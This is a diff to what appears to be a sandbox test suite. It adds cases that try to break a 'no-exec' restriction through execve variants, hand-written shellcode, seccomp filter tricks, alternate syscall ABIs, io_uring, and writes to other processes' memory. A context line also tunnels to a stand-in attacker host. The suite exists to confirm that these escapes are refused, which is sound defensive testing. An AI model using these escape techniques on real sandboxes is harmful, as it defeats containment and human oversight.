@@ -6,7 +6,7 @@ import shutil
 import sys
 from pathlib import Path
 
-from harness import GUEST, SUPPORT, Attack, Outcome, Place
+from harness import GUEST, SUPPORT, Attack, Outcome, Place, kernel_flags
 
 # ---- the options that attacks run with ----------------------------------------------------------
 
@@ -58,6 +58,12 @@ PROFILES = {
     "wall": lambda place: _limits(wall="4"),
     "memory-total": lambda place: _limits(memory_total="400M"),
     "timeout": lambda place: ["--timeout", "1"],
+    # Each way that the wall against programs is put up.
+    "no-exec": lambda place: ["--no-exec"],
+    "no-exec-zmq": lambda place: ["--no-exec", "--kernel", "zmq"],
+    "no-exec-forked": lambda place: ["--no-exec", *kernel_flags("fork", "bubblewrap")],
+    "no-exec-relay": lambda place: ["--no-exec", "--sandbox-config", place.settings({"filesystem": {"allowWrite": ["."]}})],
+    "no-exec-network": lambda place: ["--no-exec", "--allow-host", "allowed.example"],
 }
 
 # ---- what the host would notice -----------------------------------------------------------------
@@ -1505,3 +1511,191 @@ for each in connections:
 time.sleep(0.2)
 tunnel("attacker.example:443")
 """, harm=memory_below(500 << 20))
+
+# ---- starting programs where none may be started ------------------------------------------------
+
+STARTING = """
+words = (ctypes.c_char_p * 2)(b"true", None)
+none = (ctypes.c_char_p * 1)(None)
+
+def tried(action):
+    # In a process of its own, which ends by 0 if it became the program.
+    child = os.fork()
+    if child == 0:
+        try:
+            action()
+            os._exit(250)
+        except OSError as error:
+            os._exit(100 + error.errno)
+        finally:
+            os._exit(251)
+    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
+    if status == 0:
+        print("ESCAPED: a program ran")
+    elif status < 0:
+        print("refused:", signal.Signals(-status).name)
+    else:
+        print("refused:", errno.errorcode.get(status - 100, status))
+
+def machine_code(text, data=b""):
+    import mmap
+    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
+    page.write(bytes.fromhex(text))
+    page.seek(256)
+    page.write(data)
+    place = ctypes.addressof(ctypes.c_char.from_buffer(page))
+    return page, place, ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(place)
+
+def execute(path=b"/bin/true", *registers):
+    call("execve", path, words, none, *registers)
+"""
+
+
+# By name: what stops it, code, what refusals say, and without which layers it gets through.
+_STARTS = {
+    "start_a_program_by_each_call": ("""
+true = os.open("/bin/true", os.O_RDONLY)
+for path in (b"/bin/true", b"/proc/self/exe", b"/lib64/ld-linux-x86-64.so.2", b"/usr/bin/env"):
+    tried(lambda: execute(path))
+tried(lambda: call("execveat", -100, b"/bin/true", words, none, 0))
+tried(lambda: call("execveat", true, b"", words, none, 0x1000))           # AT_EMPTY_PATH
+tried(lambda: call("execveat", true, b"", words, none, 0x11000))          # and AT_EXECVE_CHECK
+def by_libc(function, *arguments):
+    ctypes.set_errno(0)
+    if getattr(libc, function)(*arguments) == -1:
+        raise OSError(ctypes.get_errno(), function)
+tried(lambda: by_libc("execv", b"/bin/true", words))
+tried(lambda: by_libc("fexecve", true, words, none))
+""", "EPERM", "programs,last-program"),
+    "start_a_program_from_memory": ("""
+file = os.memfd_create("x", 0)
+os.write(file, open("/bin/true", "rb").read())
+tried(lambda: call("execveat", file, b"", words, none, 0x1000))
+tried(lambda: execute(b"/proc/self/fd/%d" % file))
+open("copied", "wb").write(open("/bin/true", "rb").read()); os.chmod("copied", 0o755)
+open("script", "w").write("#!/bin/true\\n"); os.chmod("script", 0o755)
+tried(lambda: execute(b"copied"))
+tried(lambda: execute(b"script"))
+""", "EPERM", "programs,last-program"),
+    "start_a_program_through_the_loader": ("""
+loader = (ctypes.c_char_p * 3)(b"ld.so", b"/bin/true", None)
+place = [line.split()[-1] for line in open("/proc/self/maps") if "/ld-" in line][0].encode()
+tried(lambda: call("execve", place, loader, none))
+""", "EPERM", "programs,last-program"),
+    "start_a_program_by_posix_spawn_and_vfork": ("""
+child = ctypes.c_int()
+for spawn in (libc.posix_spawn, libc.posix_spawnp):
+    error = spawn(ctypes.byref(child), b"/bin/true", None, None, words, none)
+    print("refused: " + errno.errorcode[error] if error else "ESCAPED: a program ran")
+if os.uname().machine == "x86_64":
+    # push rbx; mov rbx, rdi; vfork(); in the child execve(rbx + 256, rbx + 320, 0) and exit_group(-result); pop rbx; ret
+    page, place, run = machine_code("534889fbb83a0000000f0585c07522488dbb00010000488db34001000031d2b83b0000000f0589c7f7dfb8e70000000f055bc3",
+                                    b"/bin/true".ljust(64, b"\\0"))
+    page.seek(320)
+    page.write(struct.pack("<QQ", place + 256, 0))
+    child = run(place)
+    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
+    print("refused: " + errno.errorcode[status] if status else "ESCAPED: a program ran")
+""", "EPERM", "programs,last-program"),
+    "start_a_program_by_each_function_of_the_c_library": ("""
+status = libc.system(b"true")
+print("ESCAPED: a program ran" if status == 0 else "refused: EPERM" if status == 127 << 8 else status)
+libc.popen.restype = ctypes.c_void_p
+libc.pclose.argtypes = [ctypes.c_void_p]
+stream = libc.popen(b"true", b"r")
+status = libc.pclose(stream) if stream else 127 << 8
+print("ESCAPED: a program ran" if status == 0 else "refused: EPERM" if status == 127 << 8 else status)
+""", "EPERM", "programs,last-program"),
+    "start_a_program_from_a_thread": ("""
+def run():
+    tried(execute)
+    # The thread's own call would replace the whole process.
+    try: call("execve", b"/nonexistent", words, none)
+    except OSError as error: print("refused:" if error.errno == errno.EPERM else "ESCAPED:", errno.errorcode[error.errno])
+thread = threading.Thread(target=run)
+thread.start(); thread.join()
+""", "EPERM", "programs,last-program"),
+    "take_the_wall_down": ("""
+def add(action, flags=0):
+    global kept
+    number = _NUMBERS["execve"][os.uname().machine != "x86_64"]
+    steps = (0x20, 0, 0, 0), (0x15, 0, 1, number), (6, 0, 0, action), (6, 0, 0, 0x7fff0000)
+    kept = ctypes.create_string_buffer(b"".join(struct.pack("<HBBI", *step) for step in steps))
+    return call("seccomp", 1, flags, struct.pack("<HxxxxxxQ", 4, ctypes.addressof(kept)))
+# A filter that allows it, that logs it, that lets a tracer decide: the strictest answer counts.
+for action in (0x7fff0000, 0x7ffc0000, 0x7ff00000):
+    tried(lambda: (add(action), execute()))
+for flags in (8, 8 | 1 | 16):                 # NEW_LISTENER, and with TSYNC
+    tried(lambda: add(0x7fc00000, flags) and os._exit(0))
+for mode in (0, 1):
+    tried(lambda: (mode == 0 and libc.prctl(22, 0, 0), execute()))   # PR_SET_SECCOMP
+libc.prctl(4, 1)                              # dumpable
+attempt(lambda: call("ptrace", 0x420c, os.getpid(), 0, 0))   # PTRACE_SECCOMP_GET_FILTER
+""", "EPERM", "programs,last-program"),
+    "guess_what_the_last_program_was_started_with": ("""
+import random
+words_of = [(0, 0, 0), (-1, -1, -1), (1, 2, 3)] + [tuple(random.getrandbits(63) for _ in range(3)) for _ in range(20)]
+for registers in words_of:
+    tried(lambda: execute(b"/bin/true", *registers))
+def guess():
+    for _ in range(50_000):
+        call_number = _NUMBERS["execve"][os.uname().machine != "x86_64"]
+        libc.syscall(ctypes.c_long(call_number), b"/bin/true", words, none, *(ctypes.c_long(random.getrandbits(63)) for _ in range(3)))
+    raise OSError(ctypes.get_errno(), "refused each time")
+tried(guess)
+""", "EPERM", ""),
+    "start_a_program_by_the_numbers_of_other_abis": ("""
+low = b"/bin/true".ljust(64, b"\\0")
+for number in (520, 545, 59, 322):            # x32: execve, execveat, and those of x86-64 with its bit
+    arguments = (ctypes.c_long(-100), b"/bin/true", words, none, ctypes.c_long(0)) if number in (545, 322) else (b"/bin/true", words, none)
+    def x32():
+        if libc.syscall(ctypes.c_long(0x40000000 + number), *arguments) == -1:
+            raise OSError(ctypes.get_errno(), "x32")
+    tried(x32)
+# push rbx, rsi; eax, ebx, ecx, edx, esi from rdi + 256; int 0x80; pop rsi, rbx; ret
+page, place, enter = machine_code("53564989f8418b8000010000418b9804010000418b8808010000418b900c010000418bb01001000031ffcd805e5bc3")
+page.seek(512)
+page.write(low + struct.pack("<II", place + 512, 0))
+path, vector, empty = place + 512, place + 576, place + 580
+for numbers in ((11, path, vector, empty, 0), (358, 0xffffff9c, path, vector, empty), (20, 0, 0, 0, 0)):
+    page.seek(256)
+    page.write(struct.pack("<5I", *numbers))
+    def i386():
+        result = enter(place)
+        if result == os.getpid():
+            os._exit(0)
+        raise OSError(-result, "i386")
+    tried(i386)
+""", "EPERM|ENOSYS|SIGSYS|SIGSEGV|SIGKILL", ""),
+    "have_another_process_start_one": ("""
+# Of those that the sandbox is made of, not all are behind the wall.
+for number in [int(n) for n in os.listdir("/proc") if n.isdigit() and int(n) != os.getpid()]:
+    attempt(lambda: open(f"/proc/{number}/mem", "r+b").fileno())
+    attempt(lambda: call("ptrace", 16, number, 0, 0))
+    attempt(lambda: call("pidfd_getfd", os.pidfd_open(number), 0, 0))
+""", "EPERM|EACCES|ENOENT|ESRCH", ""),
+    "set_up_what_no_filter_sees": ("""
+for number in (425, 426, 427):                # io_uring
+    result = libc.syscall(ctypes.c_long(number), 4, ctypes.create_string_buffer(120))
+    print("refused:" if result == -1 else "ESCAPED:", errno.errorcode[ctypes.get_errno()])
+""", "ENOSYS|EPERM", ""),
+    "start_a_program_by_memory_of_ones_own": ("""
+# One's own code can be changed at will: what it does are still calls.
+with open("/proc/self/mem", "r+b", 0) as memory:
+    text = ctypes.create_string_buffer(b"x" * 16)
+    memory.seek(ctypes.addressof(text))
+    memory.write(b"written by proc.")
+    print(text.raw[:7] == b"written")
+tried(execute)
+""", "EPERM", "programs,last-program"),
+}
+
+for _profile, _suffix in (("no-exec", ""), ("no-exec-zmq", "_on_zmq"), ("no-exec-forked", "_in_a_fork"), ("no-exec-relay", "_with_the_whole_disk"),
+                          ("no-exec-network", "_with_a_network")):
+    for _name, (_code, _by, _without) in _STARTS.items():
+        _needs = ("x86-64",) if "other_abis" in _name else ()
+        attack(_name + _suffix, "programs", STARTING + _code, by=_by, profile=_profile, needs=_needs,
+               escapes_without=_without if _profile == "no-exec" else "")
+attack("write_into_the_first_process", "landlock", STARTING + """
+attempt(lambda: open("/proc/1/mem", "r+b").fileno())
+""", by="EACCES|EPERM", profile="no-exec", escapes_without="landlock")
